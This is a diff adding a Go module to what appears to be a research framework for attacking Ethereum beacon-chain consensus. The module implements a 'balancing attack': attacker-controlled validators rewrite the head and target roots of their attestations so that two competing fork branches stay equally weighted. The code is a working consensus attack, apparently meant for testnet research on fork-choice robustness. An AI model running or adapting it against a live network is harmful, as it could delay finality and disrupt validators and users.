@@ -0,0 +1,191 @@
+package apis
+
+import (
+	"encoding/base64"
+	"sort"
+	"strconv"
+	"sync"
+
+	"github.com/ethereum/go-ethereum/common/hexutil"
+	ethpb "github.com/prysmaticlabs/prysm/v4/proto/prysm/v1alpha1"
+	log "github.com/sirupsen/logrus"
+	"github.com/tsinghua-cel/attacker-service/beaconapi"
+	"github.com/tsinghua-cel/attacker-service/types"
+	"google.golang.org/protobuf/proto"
+)
+
+// balancingVoteWeight is the weight in gwei counted for an attacker vote
+// given in the current slot, which the fork choice doesn't hold yet.
+const balancingVoteWeight = 32_000_000_000
+
+func init() {
+	RegisterAttack(&balancingAttack{given: make(map[uint64]map[string]int)})
+}
+
+// balancingAttack keeps two competing branches at the same weight: each
+// attacker votes for the head of the branch that is the lightest in the fork
+// choice of the beacon node, counting the attacker votes already given for
+// the slot. The attestations are published so both sides see them.
+type balancingAttack struct {
+	BaseAttack
+	given map[uint64]map[string]int // slot -> branch head -> attacker votes
+	lock  sync.Mutex
+}
+
+func (*balancingAttack) Name() string {
+	return "balancing"
+}
+
+// branch is one side of a fork, its weight is the weight of the first block
+// after the fork, which holds the votes for all its descendants.
+type branch struct {
+	head   string
+	weight uint64
+}
+
+// competingBranches returns the two heaviest branches of the latest fork of
+// the fork choice, nil if there is no fork.
+func competingBranches(fc beaconapi.ForkChoice) []branch {
+	var fork *beaconapi.ForkChoiceNode
+	var children []beaconapi.ForkChoiceNode
+	for i, n := range fc.Nodes {
+		c := fc.Children(n.BlockRoot)
+		if len(c) < 2 {
+			continue
+		}
+		if fork == nil || nodeSlot(n) > nodeSlot(*fork) {
+			fork, children = &fc.Nodes[i], c
+		}
+	}
+	if fork == nil {
+		return nil
+	}
+	sort.Slice(children, func(i, j int) bool {
+		return children[i].WeightGwei() > children[j].WeightGwei()
+	})
+	branches := make([]branch, 0, 2)
+	for _, child := range children[:2] {
+		// the head of the branch follows the heaviest child.
+		head := child
+		for {
+			next := fc.Children(head.BlockRoot)
+			if len(next) == 0 {
+				break
+			}
+			sort.Slice(next, func(i, j int) bool {
+				return next[i].WeightGwei() > next[j].WeightGwei()
+			})
+			head = next[0]
+		}
+		branches = append(branches, branch{head: head.BlockRoot, weight: child.WeightGwei()})
+	}
+	return branches
+}
+
+func nodeSlot(n beaconapi.ForkChoiceNode) uint64 {
+	slot, _ := strconv.ParseUint(n.Slot, 10, 64)
+	return slot
+}
+
+// checkpointRoot returns the root of the last block at or before slot on the
+// chain of head, false if the fork choice doesn't hold it.
+func checkpointRoot(fc beaconapi.ForkChoice, head string, slot uint64) (string, bool) {
+	n, ok := fc.Node(head)
+	for ok {
+		if nodeSlot(n) <= slot {
+			return n.BlockRoot, true
+		}
+		n, ok = fc.Node(n.ParentRoot)
+	}
+	return "", false
+}
+
+// choose returns the branch the next attacker vote of slot goes to.
+func (a *balancingAttack) choose(slot uint64, branches []branch) branch {
+	a.lock.Lock()
+	defer a.lock.Unlock()
+	given := a.given[slot]
+	if given == nil {
+		given = make(map[string]int)
+		a.given[slot] = given
+		for s := range a.given {
+			if s+2 < slot {
+				delete(a.given, s)
+			}
+		}
+	}
+	best := branches[0]
+	for _, br := range branches[1:] {
+		if br.weight+uint64(given[br.head])*balancingVoteWeight < best.weight+uint64(given[best.head])*balancingVoteWeight {
+			best = br
+		}
+	}
+	given[best.head]++
+	return best
+}
+
+// AttestBeforeSign moves the head vote of an attacker to the lightest of the
+// two competing branches, and its target to the epoch boundary block of that
+// branch.
+func (a *balancingAttack) AttestBeforeSign(b Backend, slot uint64, pubkey string, attestDataBase64 string) types.AttackerResponse {
+	unchanged := types.AttackerResponse{
+		Cmd:    types.CMD_NULL,
+		Result: attestDataBase64,
+	}
+	if b.GetValidatorRoleByPubkey(int(slot), pubkey) != types.AttackerRole {
+		return unchanged
+	}
+	data := new(ethpb.AttestationData)
+	if err := decodeProto(attestDataBase64, data); err != nil || data.Target == nil {
+		return unchanged
+	}
+	fc, err := b.GetForkChoice()
+	if err != nil {
+		log.WithError(err).Warn("balancing attack, get fork choice failed")
+		return unchanged
+	}
+	branches := competingBranches(fc)
+	if len(branches) < 2 {
+		return unchanged
+	}
+	chosen := a.choose(slot, branches)
+	epochStart := uint64(data.Target.Epoch) * uint64(b.SlotsPerEpoch())
+	target, ok := checkpointRoot(fc, chosen.head, epochStart)
+	if !ok {
+		log.WithField("head", chosen.head).Warn("balancing attack, no target on the branch")
+		return unchanged
+	}
+	head, err := hexutil.Decode(chosen.head)
+	if err != nil {
+		return unchanged
+	}
+	targetRoot, err := hexutil.Decode(target)
+	if err != nil {
+		return unchanged
+	}
+	data.BeaconBlockRoot = head
+	data.Target.Root = targetRoot
+	d, err := proto.Marshal(data)
+	if err != nil {
+		log.WithError(err).Error("marshal attest data failed")
+		return unchanged
+	}
+	log.WithFields(log.Fields{
+		"slot":   slot,
+		"head":   chosen.head,
+		"weight": chosen.weight,
+	}).Info("balancing attack, vote for the lighter branch")
+	return types.AttackerResponse{
+		Cmd:    types.CMD_NULL,
+		Result: base64.StdEncoding.EncodeToString(d),
+	}
+}
+
+// AttestBeforePropose publishes the attacker votes, both branches have to
+// see them to stay balanced.
+func (*balancingAttack) AttestBeforePropose(b Backend, slot uint64, pubkey string, signedAttestDataBase64 string) types.AttackerResponse {
+	return types.AttackerResponse{
+		Cmd:    types.CMD_NULL,
+		Result: signedAttestDataBase64,
+	}
+}